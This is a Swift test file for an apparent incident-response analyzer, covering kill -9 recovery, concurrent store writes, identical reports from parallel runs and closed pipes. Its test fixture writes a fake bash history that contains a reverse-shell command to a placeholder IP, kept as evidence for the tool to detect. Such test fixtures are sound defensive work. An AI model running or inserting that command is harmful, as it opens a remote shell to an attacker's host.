import Foundation
import TestSupport
import Testing

/// kill -9 at hundreds of moments: the next run finishes, the store verifies, and the report is that of an undisturbed run.
struct KilledRunTests {
  /// Small enough for a run of a fraction of a second, with every kind of work in it.
  private struct Bundle {
    let folder: TemporaryFolder

    init() throws {
      folder = try TemporaryFolder()
      let history = "#1795584000\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
      try folder.write("in/home/admin/.bash_history", history)
      try folder.write(
        "in/disk/root.tar.gz",
        ArchiveBytes.zstd(ArchiveBytes.tar([.init("etc/hostname", "host\n"), .init("root/.bash_history", history)])))
      for number in 0..<6 {
        try folder.write("in/notes/\(number).txt", String(repeating: "note \(number)\n", count: 2000))
      }
      for name in try FileManager.default.subpathsOfDirectory(atPath: folder.path + "/in") {
        // Times of files are evidence too: two bundles are the same only with the same times.
        let time = Date(timeIntervalSince1970: 1_795_584_480)
        try FileManager.default.setAttributes([.modificationDate: time], ofItemAtPath: "\(folder.path)/in/\(name)")
      }
    }

    var store: String { folder.path + "/store" }

    func arguments(_ command: String) -> [String] {
      let more = command == "run" ? ["-o", folder.path + "/out"] : []
      return [command, folder.path + "/in", "--case", "c", "--store", store] + more
    }

    func outputs() throws -> [String: Data] {
      var files: [String: Data] = [:]
      let out = folder.path + "/out"
      for name in try FileManager.default.subpathsOfDirectory(atPath: out) where name != "run.json" {
        files[name] = FileManager.default.contents(atPath: "\(out)/\(name)")
      }
      return files
    }

    func startAnew() {
      try? FileManager.default.removeItem(atPath: store)
      try? FileManager.default.removeItem(atPath: folder.path + "/out")
    }
  }

  /// - Returns: true when the program had ended by itself before.
  private func kill(_ bundle: Bundle, _ command: String, after seconds: Double) throws -> Bool {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: irAnalyze)
    process.arguments = bundle.arguments(command)
    process.standardError = FileHandle.nullDevice
    try process.run()
    Thread.sleep(forTimeInterval: seconds)
    Foundation.kill(process.processIdentifier, SIGKILL)
    process.waitUntilExit()
    return process.terminationReason == .exit
  }

  @Test(arguments: ["ingest", "run"])
  func killedAtAHundredMoments(command: String) throws {
    let reference = try Bundle()
    let begin = Date()
    let status = try runProgram(irAnalyze, reference.arguments("run")).status
    let duration = Date().timeIntervalSince(begin)
    #expect(status == 0 || status == 2)
    let expected = try reference.outputs()
    #expect(expected.count > 5)

    let bundle = try Bundle()
    var moments = SystemRandomNumberGenerator()
    var killed = 0
    var rounds = 0
    // A run that is killed over and over gets a little further each time, so a new store is begun every so often.
    while killed < 110, rounds < 30 {
      rounds += 1
      for _ in 0..<10 {
        // Most of a run's moments, and the first ones of a start more often.
        let whole = command == "ingest" ? min(duration, 0.12) : duration
        let after = Double.random(in: 0...1, using: &moments)
        if try !kill(bundle, command, after: after * after * whole) { killed += 1 }
      }
      let last = try runProgram(irAnalyze, bundle.arguments("run"))
      #expect(last.status == status, "\(last.errors)")
      #expect(try bundle.outputs() == expected)
      let verify = try runProgram(irAnalyze, ["verify", "-q", "--store", bundle.store])
      #expect(verify.status == 0, "\(verify.errors)")
      bundle.startAnew()
    }
    #expect(killed >= 100)
  }

  @Test func severalProcessesFillOneStoreAtOnce() throws {
    let bundle = try Bundle()
    let noise = (0..<4).map { number in (0..<(1 << 20)).map { UInt8(truncatingIfNeeded: $0 &* (number + 3) >> 3) } }
    for (number, bytes) in noise.enumerated() {
      try bundle.folder.write("own-\(number)/file-\(number).bin", bytes)
      try bundle.folder.write("own-\(number)/shared.bin", noise[0])
    }
    let processes = try (0..<8).map { number in
      let process = Process()
      process.executableURL = URL(fileURLWithPath: irAnalyze)
      process.arguments = [
        "ingest", "\(bundle.folder.path)/own-\(number % 4)", bundle.folder.path + "/in", "--case", "c\(number % 2)",
        "-q",
        "--store", bundle.store,
      ]
      try process.run()
      return process
    }
    for process in processes { process.waitUntilExit() }
    #expect(processes.map(\.terminationStatus) == [Int32](repeating: 0, count: 8))
    #expect(try runProgram(irAnalyze, ["verify", "-q", "--store", bundle.store]).status == 0)
    for name in ["c0", "c1"] {
      let list = try runProgram(irAnalyze, ["store", "ls", name, "--store", bundle.store]).output
      let own = name == "c0" ? ["file-0.bin", "file-2.bin"] : ["file-1.bin", "file-3.bin"]
      for path in own + ["shared.bin", "disk/root.tar.gz"] { #expect(list.contains("  \(path)\n"), "\(name) \(path)") }
      #expect(list.split(separator: "\n").count == 2 + 1 + 8)
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: bundle.store + "/tmp").isEmpty)
  }

  @Test func severalRunsOfOneCaseAtOnceGiveOneReport() throws {
    let bundle = try Bundle()
    let processes = try (0..<3).map { number in
      let process = Process()
      process.executableURL = URL(fileURLWithPath: irAnalyze)
      process.arguments = [
        "run", bundle.folder.path + "/in", "--case", "c", "--store", bundle.store, "-q", "-o",
        "\(bundle.folder.path)/out-\(number)",
      ]
      try process.run()
      return process
    }
    for process in processes { process.waitUntilExit() }
    #expect(Set(processes.map(\.terminationStatus)).count == 1)
    let report = { (number: Int) in
      FileManager.default.contents(atPath: "\(bundle.folder.path)/out-\(number)/incident.json")
    }
    #expect(report(0) != nil && report(0) == report(1) && report(1) == report(2))
  }

  @Test func closedPipesAreNoCrash() throws {
    let bundle = try Bundle()
    let run = "'\(irAnalyze)' " + bundle.arguments("run").map { "'\($0)'" }.joined(separator: " ")
    // Standard error that nobody reads, and standard input, output and error that are closed.
    for command in ["\(run) 2>&1 >/dev/null | true; echo ${PIPESTATUS[0]}", "\(run) <&- >&- 2>&-; echo $?"] {
      let result = try runProgram("/bin/bash", ["-c", command])
      #expect(["0\n", "2\n"].contains(result.output), "\(command): \(result.output)")
    }
    // A writer that is cut off: what came is kept as what it is.
    let cut = "head -c 5000 /dev/zero | '\(irAnalyze)' ingest - --case z -q --store '\(bundle.store)'; echo $?"
    #expect(try runProgram("/bin/bash", ["-c", cut]).output == "0\n")
  }
}
